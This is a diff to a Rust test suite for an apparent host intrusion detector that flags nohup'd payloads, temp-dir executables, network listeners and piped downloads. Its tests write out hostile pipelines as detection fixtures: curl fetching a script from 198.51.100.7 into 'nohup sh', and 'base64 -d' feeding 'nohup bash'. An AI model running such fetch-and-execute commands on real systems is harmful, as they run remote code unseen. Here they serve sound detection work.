@@ -81,7 +81,8 @@ fn seed_test_2_chmod_then_nohup() {
     ]);
     assert_eq!(f.len(), 1);
     assert!(has(&f[0], "payload_made_executable") && has(&f[0], "temp_dir_payload"));
-    assert!(f[0].severity >= Severity::High, "{:?}", f[0]);
+    // 3 + 2: chmod +x alone is a developer's habit (issue #14), the temp dir decides.
+    assert!(f[0].severity >= Severity::Medium, "{:?}", f[0]);
     // Relative paths meet through the working directories.
     let mut chmod = exec(0, 100, 10, &["chmod", "755", "x.sh"]);
     chmod.cwd = Some("/var/tmp/w".into());
@@ -127,7 +128,7 @@ fn preparation_must_match_the_path_the_host_and_the_window() {
         )),
         Event::Process(exec(2, 101, 10, &["nohup", "/dev/shm/k"])),
     ]);
-    assert!(has(&f[0], "payload_made_executable"));
+    assert!(has(&f[0], "payload_downloaded") && !has(&f[0], "payload_made_executable"));
     let f = run(vec![Event::Process(exec(
         0,
         100,
@@ -421,4 +422,89 @@ fn state_stays_bounded_and_drops_are_counted() {
     assert_eq!(c.processes.len(), 0);
     assert_eq!(c.prepared.len(), 0);
     assert_eq!(c.stats(), s);
+}
+
+/// A socket event of `pid` bound to `local` (None: a family with no address, netlink).
+fn bind_at(secs: i64, pid: u32, local: Option<&str>) -> Event {
+    let Event::Network(mut n) = net(secs, pid, NetworkKind::Bind) else {
+        unreachable!()
+    };
+    n.local = local.map(str::to_string);
+    Event::Network(n)
+}
+
+#[test]
+fn only_network_sockets_are_listeners_and_loopback_dev_servers_weigh_less() {
+    let launch = |argv: &[&str]| Event::Process(exec(0, 300, 1, argv));
+    for local in [None, Some("unix:/run/app.sock")] {
+        let f = run(vec![
+            launch(&["nohup", "/opt/x/agent"]),
+            bind_at(1, 300, local),
+        ]);
+        assert!(!has(&f[0], "net_listener"), "{local:?}: {:?}", f[0]);
+    }
+    let server = ["nohup", "python3", "-m", "http.server", "8000"];
+    let f = run(vec![
+        launch(&server),
+        bind_at(1, 300, Some("127.0.0.1:8000")),
+    ]);
+    assert!(has(&f[0], "loopback_dev_listener") && !has(&f[0], "net_listener"));
+    assert!(f[0].severity <= Severity::Low, "{:?}", f[0]);
+    let f = run(vec![launch(&server), bind_at(1, 300, Some("0.0.0.0:8000"))]);
+    assert!(has(&f[0], "net_listener"), "all interfaces: {:?}", f[0]);
+}
+
+#[test]
+fn a_download_feeding_a_nohupd_shell_is_its_pipeline_neighbour() {
+    let curl = |pid| exec(0, pid, 50, &["curl", "-fsSL", "http://198.51.100.7/s.sh"]);
+    // `curl … | nohup sh` at a prompt: two children of the shell (pid 50), one after
+    // the other, in either order.
+    let f = run(vec![
+        Event::Process(curl(51)),
+        Event::Process(exec(0, 52, 50, &["nohup", "sh"])),
+    ]);
+    assert!(has(&f[0], "download_tool"), "{:?}", f[0]);
+    let f = run(vec![
+        Event::Process(exec(0, 52, 50, &["nohup", "sh"])),
+        Event::Process(curl(51)),
+    ]);
+    assert!(has(&f[0], "download_tool"), "logged after: {:?}", f[0]);
+    // A sequence is not a pipeline: another command of the shell in between, a
+    // download to a file, a download from this host, or a script file operand.
+    for (before, nohup) in [
+        (
+            vec![curl(51), exec(0, 53, 50, &["make"])],
+            &["nohup", "sh"][..],
+        ),
+        (
+            vec![exec(
+                0,
+                51,
+                50,
+                &["curl", "-o", "/opt/x/s.sh", "http://198.51.100.7/s"],
+            )],
+            &["nohup", "sh"][..],
+        ),
+        (
+            vec![exec(
+                0,
+                51,
+                50,
+                &["curl", "-fsS", "http://127.0.0.1:8080/health"],
+            )],
+            &["nohup", "sh"][..],
+        ),
+        (vec![curl(51)], &["nohup", "sh", "/opt/x/run.sh"][..]),
+    ] {
+        let mut events: Vec<Event> = before.into_iter().map(Event::Process).collect();
+        events.push(Event::Process(exec(0, 54, 50, nohup)));
+        let f = run(events);
+        assert!(!has(&f[0], "download_tool"), "{:?}", f[0]);
+    }
+    // A decoder feeding bash.
+    let f = run(vec![
+        Event::Process(exec(0, 51, 50, &["base64", "-d"])),
+        Event::Process(exec(0, 52, 50, &["nohup", "bash"])),
+    ]);
+    assert!(has(&f[0], "encoded_payload"), "{:?}", f[0]);
 }
